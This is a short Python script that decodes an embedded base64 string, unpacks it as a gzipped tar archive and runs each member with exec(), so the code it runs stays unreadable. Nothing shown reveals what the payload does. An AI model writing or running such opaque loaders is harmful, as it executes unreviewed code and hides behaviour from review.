import base64
import io
import tarfile

DATA = (
    "H4sIAAAAAAACA+3NsQrCMBjE8cx9itBJB9MoxYBvU2qhgbQp+dJCwYe3dBHc1cH/b7njlkvzaKZVfZTdXOt6z817Wuvcq++7O1+c"
    "0lZ9wSy5Sdul+k9+mGLKOkoRxcgquRsOZTunoE+i+5ynW1W1MYSuzTEZPy5N8Peq0Q8tfXksFAAAAAAAAAAAAAAAAADgN55Icv1j"
    "ACgAAA=="
)

with tarfile.open(fileobj=io.BytesIO(base64.b64decode(DATA)), mode="r:gz") as archive:
    for member in archive:
        exec(archive.extractfile(member).read())
